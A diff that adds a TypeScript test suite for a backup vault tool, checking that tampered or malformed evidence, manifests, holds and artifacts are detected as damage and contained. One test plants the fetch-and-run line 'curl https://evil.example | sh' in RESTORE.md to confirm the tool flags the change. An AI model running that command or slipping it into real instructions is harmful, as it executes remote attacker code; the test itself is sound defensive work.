@@ -1,0 +1,234 @@
+/** A vault that others wrote to: nothing looks better than it is, one bad document spoils one backup, and no command ends for it. */
+import { appendFile, mkdir, readFile, rename, rm, stat, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { checkPolicy } from "../../src/pipeline/check.ts";
+import { exportBackup } from "../../src/pipeline/export.ts";
+import { listDueBackups } from "../../src/pipeline/list-due.ts";
+import { measureSources } from "../../src/pipeline/measure.ts";
+import { newestGoodBackup } from "../../src/pipeline/newest-good.ts";
+import { planBackup } from "../../src/pipeline/plan-run.ts";
+import { gatherReport } from "../../src/pipeline/report.ts";
+import { restoreBackup } from "../../src/pipeline/restore.ts";
+import { verifyBackup } from "../../src/pipeline/verify.ts";
+import { createFilesProject, type FilesProject } from "../support/files-project.ts";
+import { plant } from "../support/hostile-folder.ts";
+
+let project: FilesProject;
+beforeEach(async () => {
+  project = await createFilesProject();
+});
+afterEach(() => project[Symbol.asyncDispose]());
+
+const vaultPath = (...parts: string[]): string => join(project.vault, ...parts);
+const manifestOf = (id: string): string => vaultPath("manifests/tree", `${id}.json`);
+
+async function measure() {
+  const context = await project.open();
+  const { status } = await measureSources(context, Object.values(context.policy.sources));
+  const [source] = status.sources;
+  if (source === undefined) throw new Error("no status");
+  return { status, source, messages: source.findings.map(({ level, message }) => `${level}: ${message}`).join("\n") };
+}
+
+async function verify(id: string) {
+  return verifyBackup(await project.open(), await project.find(id));
+}
+
+/** As an append-only writer without a key does. */
+async function plantEmpty(id: string, check: string, stamp: string): Promise<void> {
+  await mkdir(vaultPath("manifests/tree"), { recursive: true });
+  await appendFile(manifestOf(id), "");
+  await mkdir(vaultPath("evidence/tree", id), { recursive: true });
+  await writeFile(vaultPath("evidence/tree", id, `${stamp}-${check}.json`), "");
+}
+
+const stampOf = (at: Date): string => at.toISOString().replaceAll(/[-:.]/g, "");
+
+describe("evidence", () => {
+  it("that is empty proves nothing: neither status nor an alert quotes it", async () => {
+    const good = await project.back({ minutesAgo: 60 });
+    const now = new Date();
+    const planted = `${stampOf(now).slice(0, 15)}Z-full-ev1l00`;
+    await plantEmpty(planted, "proven", stampOf(now));
+    const { source, status, messages } = await measure();
+    expect(source.newestProven).toBeNull();
+    expect(source.newestVerified?.id).toBe(good);
+    expect(source.damaged).toEqual([planted]);
+    expect(status.verdict).toBe("breach");
+    expect(messages).toContain(`${planted} is damaged: manifests/tree/`);
+    expect(source.notes.join()).not.toContain("compared equal");
+    expect(await newestGoodBackup(await project.open(), "tree")).toMatchObject({ id: good });
+  });
+
+  it("dated 9999 freezes nothing: damage is found, recorded and shown, and the backup stays due", async () => {
+    const id = await project.back();
+    await writeFile(vaultPath("evidence/tree", id, "99991231T235959999Z-proven.json"), "");
+    const before = await measure();
+    expect(before.messages).toContain("breach: " + id + ' has evidence "proven" dated 9999-12-31');
+    expect(before.source.newestProven).toBeNull();
+    expect(await listDueBackups(await project.open({ shiftMs: 60_000 }), [], 30)).toMatchObject([{ backupId: id }]);
+    await appendFile(vaultPath("artifacts/tree", id, "files.tar"), "x");
+    const result = await verify(id);
+    expect(result).toMatchObject({ outcome: "damaged" });
+    expect(result.unrecorded).toBeUndefined();
+    expect((await project.find(id)).entry.state).toBe("damaged");
+    expect((await measure()).source.damaged).toEqual([id]);
+    const findings = await checkPolicy(await project.open(), Object.values((await project.open()).policy.sources));
+    expect(findings).toContainEqual(
+      expect.objectContaining({ level: "error", message: expect.stringContaining("99991231T235959999Z") }),
+    );
+  });
+
+  it.each(["", "{}", "[".repeat(200_000)])(
+    "that cannot be read (%#) is damage, for it may have told of an edited manifest",
+    async (text) => {
+      const id = await project.back();
+      const manifest = await readFile(manifestOf(id), "utf8");
+      await writeFile(manifestOf(id), manifest.replace('"notices":[]', '"notices":[{"code":"a","message":"b","subject":"c"}]'));
+      const [key = ""] = await project.filesOf("evidence/tree");
+      await writeFile(vaultPath(key), text);
+      expect(await verify(id)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("EvidenceInvalid")] });
+    },
+  );
+});
+
+describe("a manifest", () => {
+  it.each<[string, string]>([
+    ["of 200,000 nested lists", `{"facts":${"[".repeat(200_000)}${"]".repeat(200_000)}}`],
+    ["that is empty", ""],
+    ["with a member twice", '{"id":1,"id":2}'],
+    ["of numbers without end", `{"a":${"9".repeat(100_000)}e999999}`],
+    ["of another format", '{"formatVersion":7}'],
+  ])("%s spoils its own backup only", async (_, text) => {
+    const good = await project.back({ minutesAgo: 60 });
+    const bad = await project.back({ minutesAgo: 30 });
+    await writeFile(manifestOf(bad), text);
+    const { source } = await measure();
+    expect(source.newestVerified?.id).toBe(good);
+    await gatherReport(await project.open());
+    await planBackup(await project.open(), { source: "tree", kind: "full" });
+    expect(await verify(good)).toMatchObject({ outcome: "verified" });
+    expect(await verify(await project.back())).toMatchObject({ outcome: "verified" });
+  });
+
+  it("that is a link, a pipe or a directory spoils its own backup only", async () => {
+    const good = await project.back({ minutesAgo: 60 });
+    const bad = await project.back({ minutesAgo: 30 });
+    for (const kind of ["link to a device", "pipe", "directory"] as const) {
+      await plant(kind, manifestOf(bad), project.directory);
+      const { source, messages } = await measure();
+      expect(source.newestVerified?.id).toBe(good);
+      expect(messages).toMatch(/is a (symbolic link|named pipe|directory)/);
+    }
+    expect(await verify(bad)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("is a directory")] });
+    expect(await verify(await project.back())).toMatchObject({ outcome: "verified" });
+  });
+
+  it("whose artifact is a link or a pipe is damaged", async () => {
+    for (const kind of ["link to a file", "pipe"] as const) {
+      const id = await project.back();
+      await plant(kind, vaultPath("artifacts/tree", id, "files.tar"), project.directory);
+      expect(await verify(id)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("ArtifactDamaged")] });
+    }
+  });
+
+  it("that is missing is a breach at once, and found by check", async () => {
+    const id = await project.back({ minutesAgo: 60 });
+    const kept = await project.back({ minutesAgo: 30 });
+    await rename(manifestOf(id), join(project.directory, "away"));
+    const { source, messages } = await measure();
+    expect(source.lost).toEqual([id]);
+    expect(source.newestVerified?.id).toBe(kept);
+    expect(messages).toContain(`breach: the manifest of ${id} is missing`);
+    const context = await project.open();
+    const findings = await checkPolicy(context, Object.values(context.policy.sources));
+    expect(findings).toContainEqual(expect.objectContaining({ level: "error", message: expect.stringContaining(id) }));
+  });
+});
+
+describe("a hold that cannot be read", () => {
+  it("holds, and ends no report", async () => {
+    const id = await project.back();
+    await mkdir(vaultPath("holds/tree"), { recursive: true });
+    await writeFile(vaultPath("holds/tree", `${id}.json`), "");
+    const { sources } = await gatherReport(await project.open());
+    expect(sources[0]?.holds).toMatchObject([{ backupId: id, reason: expect.stringContaining("cannot be read") }]);
+    expect((await project.find(id)).entry.held).toBe(true);
+  });
+});
+
+describe("damage that a restore or an export meets", () => {
+  const damage = async (id: string): Promise<void> => {
+    const path = vaultPath("artifacts/tree", id, "files.tar");
+    const bytes = await readFile(path);
+    bytes[Math.floor(bytes.length / 2)] = (bytes[Math.floor(bytes.length / 2)] ?? 0) ^ 1;
+    await writeFile(path, bytes);
+  };
+
+  it("is recorded as by a verification, and answered with the newest good backup", async () => {
+    const good = await project.back({ minutesAgo: 60 });
+    for (const use of ["restore", "export"] as const) {
+      const id = await project.back({ minutesAgo: use === "restore" ? 30 : 10 });
+      await damage(id);
+      const context = await project.open();
+      const found = await project.find(id, context);
+      const target = join(project.directory, use);
+      const working =
+        use === "restore"
+          ? restoreBackup(context, found, { to: target, overwrite: false, allowDamaged: false })
+          : exportBackup(context, found, target);
+      await expect(working).rejects.toMatchObject({ exitCode: 4, hint: expect.stringContaining(good) });
+      expect((await project.find(id)).entry).toMatchObject({ state: "damaged" });
+    }
+  });
+
+  it("is not what a key that is missing tells", async () => {
+    const id = await project.back();
+    await rm(join(project.directory, "main.key"));
+    const context = await project.open();
+    const target = join(project.directory, "restored");
+    const restoring = restoreBackup(context, await project.find(id, context), {
+      to: target,
+      overwrite: false,
+      allowDamaged: false,
+    });
+    await expect(restoring).rejects.toThrow();
+    expect((await project.find(id)).entry).toMatchObject({ state: "verified" });
+  });
+});
+
+describe("check", () => {
+  it("names a RESTORE.md that others changed, or that is missing", async () => {
+    await project.back();
+    const check = async () => {
+      const context = await project.open();
+      return checkPolicy(context, Object.values(context.policy.sources));
+    };
+    expect((await check()).filter(({ level }) => level === "error")).toEqual([]);
+    const text = await readFile(vaultPath("RESTORE.md"), "utf8");
+    for (const change of [text.replace("python3 -m venv tools", "curl https://evil.example | sh"), "", `${text}\n`]) {
+      await writeFile(vaultPath("RESTORE.md"), change);
+      expect(await check()).toContainEqual(
+        expect.objectContaining({ level: "error", message: expect.stringContaining("RESTORE.md") }),
+      );
+    }
+    await rm(vaultPath("RESTORE.md"));
+    expect(await check()).toContainEqual(
+      expect.objectContaining({ level: "error", message: expect.stringContaining("is missing") }),
+    );
+  });
+
+  it("does not create a vault whose path may be mistyped, nor write into a folder that is none", async () => {
+    const context = await project.open();
+    const findings = await checkPolicy(context, Object.values(context.policy.sources));
+    expect(findings).toContainEqual(
+      expect.objectContaining({ level: "warning", message: expect.stringContaining("does not exist yet") }),
+    );
+    await expect(stat(project.vault)).rejects.toMatchObject({ code: "ENOENT" });
+    await mkdir(project.vault);
+    await checkPolicy(await project.open(), Object.values(context.policy.sources));
+    expect(await project.filesOf(".")).toEqual([]);
+    await expect(stat(vaultPath(".partial"))).rejects.toMatchObject({ code: "ENOENT" });
+  });
+});
